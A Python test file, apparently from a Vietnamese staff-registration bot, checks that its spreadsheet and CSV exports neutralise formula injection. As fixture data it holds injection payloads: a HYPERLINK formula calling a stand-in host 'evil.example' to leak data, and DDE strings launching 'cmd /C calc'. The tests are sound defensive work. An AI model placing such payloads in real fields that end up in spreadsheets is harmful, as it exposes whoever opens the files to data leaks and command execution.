"""Every export writes text cells as text: a name, a title or a purpose that starts with = + - @,
a tab or a carriage return never becomes a live formula (issue 19.2).

The directory and the history carry such values; each register exported in the chat, the
directive read-export and the invite CSV are opened and searched for a formula.
"""

from __future__ import annotations

import asyncio
import csv
from collections.abc import AsyncIterator
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.domain.clock import ManualClock
from bot.domain.text import spreadsheet_text
from bot.services.registration.directory_import import write_invites
from tests.fakebot import FakeBotApi
from tests.harness import RunningBot, db_connect, load_examples, make_settings, register
from tests.paths import EXAMPLES
from tests.test_e2e_broadcast import collect_preview, latest
from tests.test_e2e_oversight import NOW, ask, seed_trip

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak","Lại Thị Diệu Linh")'
EVIL_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_POSITION = "+1+1"
EVIL_TITLE = '=HYPERLINK("http://evil.example/","V/v phòng dịch")'
ADMIN, TEACHER = 1921, 1922
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def hostile_bot(
    fake: FakeBotApi, tmp_path: Path, db_path: Path, clock: ManualClock
) -> AsyncIterator[RunningBot]:
    staff = (EXAMPLES / "staff.csv").read_text(encoding="utf-8-sig")
    staff = staff.replace(
        "TH-003;Lại Thị Diệu Linh;0912 000 026;HB-TH;Giáo viên;",
        'TH-003;"' + EVIL_NAME.replace('"', '""') + f'";0912 000 026;HB-TH;{EVIL_POSITION};',
    )
    units = (EXAMPLES / "units.csv").read_text(encoding="utf-8-sig")
    units = units.replace("HB-TH,Trường Tiểu học Hòa Bình (mẫu),", f'HB-TH,"{EVIL_UNIT}",')
    (tmp_path / "staff.csv").write_text(staff, encoding="utf-8")
    (tmp_path / "units.csv").write_text(units, encoding="utf-8")
    outcome = await load_examples(
        db_path, clock, staff=tmp_path / "staff.csv", units=tmp_path / "units.csv"
    )
    assert outcome.applied, outcome.problems
    async with RunningBot(make_settings(fake, db_path), clock) as running:
        yield running


def seed_hostile_history(db: Path) -> None:
    seed_trip(db, 1, "TH-003", state="back", departed=NOW.replace(day=20),
              back=NOW.replace(day=22), arrived=NOW.replace(day=22))  # fmt: skip
    with db_connect(db) as conn:
        conn.execute(
            "UPDATE travel_requests SET destination = '-2+3', address = ?, purpose = ? WHERE id = 1",
            ("\t=1+1", "\r=cmd|'/C calc'!A0"),
        )
        conn.execute(
            "INSERT INTO symptom_reports (staff_id, source, symptoms, urgency, created_at) "
            "VALUES ('TH-003', '=self', '[\"=HYPERLINK(1)\"]', '@urgent', '2021-05-25T02:00:00+00:00')"
        )


def assert_no_formula(data: bytes) -> int:
    """Open the workbook; no cell is a formula or reads as one. Returns the cells seen."""
    seen = 0
    for sheet in load_workbook(BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                seen += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(STARTS), (cell.coordinate, cell.value)
    return seen


async def test_no_register_and_no_directive_export_holds_a_formula(
    fake: FakeBotApi, hostile_bot: RunningBot
) -> None:
    await asyncio.to_thread(seed_hostile_history, hostile_bot.settings.database_path)
    admin = await register(fake, ADMIN, "DU-003")
    teacher = await register(fake, TEACHER, "TH-003")
    await send_directive(fake, admin)
    await hostile_bot.services.sender.drain()
    mine = fake.messages(teacher.id)[-1]
    fake.press(teacher, mine, mine.callback_data("Đã đọc"))
    await fake.wait_for(lambda: bool(mine.edits))

    for what in ("travel", "returns", "acks", "health"):
        command = f"/export {what} 01/05/2021 31/05/2021"
        if what == "health":  # health asks why first; the purpose typed lands in the footer
            assert "mục đích" in ((await ask(fake, admin, command)).text or "")
            command = '=HYPERLINK("http://x","purpose")'
        got = await ask(fake, admin, command, kind="document")
        assert got.document is not None and ": 0 " not in (got.caption or ""), got.caption
        data = got.document["data"]
        assert assert_no_formula(data) > 10
        texts = [c for s in load_workbook(BytesIO(data)).worksheets for r in s.values for c in r]
        assert "'" + EVIL_NAME in texts and "'" + EVIL_UNIT in texts, what

    view = await latest(fake, admin, "/broadcast 1", "Văn bản #1:")
    before = len(fake.messages(admin.id))
    fake.press(admin, view, view.callback_data("Xuất"))
    await fake.wait_for(lambda: any(m.kind == "document" for m in fake.messages(admin.id)[before:]))
    export = next(m for m in fake.messages(admin.id)[before:] if m.kind == "document")
    assert export.document is not None
    assert assert_no_formula(export.document["data"]) > 10
    rows = list(load_workbook(BytesIO(export.document["data"])).active.values)  # type: ignore[union-attr]
    assert any(r[2] == "'" + EVIL_NAME and r[3] == "'" + EVIL_POSITION for r in rows)  # after STT


async def send_directive(fake: FakeBotApi, admin: object) -> None:
    for text in ("/broadcast", "1061/UBND-VP 26/05/2021", EVIL_TITLE, "Nội dung chỉ đạo."):
        fake.send_text(admin, text)  # type: ignore[arg-type]
        last = await fake.next_message(admin.id)  # type: ignore[attr-defined]
    fake.press(admin, last, last.callback_data("Xong"))  # type: ignore[arg-type]
    question = await fake.next_message(admin.id)  # type: ignore[attr-defined]
    fake.press(admin, question, question.callback_data("Mọi người"))  # type: ignore[arg-type]
    summary = (await collect_preview(fake, admin))[-1]  # type: ignore[arg-type]
    fake.press(admin, summary, summary.callback_data("Gửi ngay"))  # type: ignore[arg-type]
    await fake.next_message(admin.id)  # type: ignore[attr-defined]


async def test_the_invite_csv_neutralises_formulas(
    hostile_bot: RunningBot, tmp_path: Path, clock: ManualClock
) -> None:
    out = tmp_path / "invites.csv"
    await write_invites(hostile_bot.services.db, clock, "khaibao_test_bot", out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + EVIL_NAME in cells
    assert not any(cell.startswith(STARTS) for cell in cells)


@given(st.text())
def test_neutralised_text_never_starts_a_formula(value: str) -> None:
    cleaned = spreadsheet_text(value)
    assert not cleaned.startswith(STARTS)
    assert cleaned == value or cleaned == "'" + value


def test_numbers_and_empties_stay_as_they_are() -> None:
    from bot.services.kernel.xlsx import row_xml  # every register and the read-list go through it

    assert row_xml([-5, 37.5, None, "", "-5"], 2) == (
        '<row r="2"><c t="n"><v>-5</v></c><c t="n"><v>37.5</v></c><c/><c/>'
        '<c t="inlineStr"><is><t>\'-5</t></is></c></row>'
    )
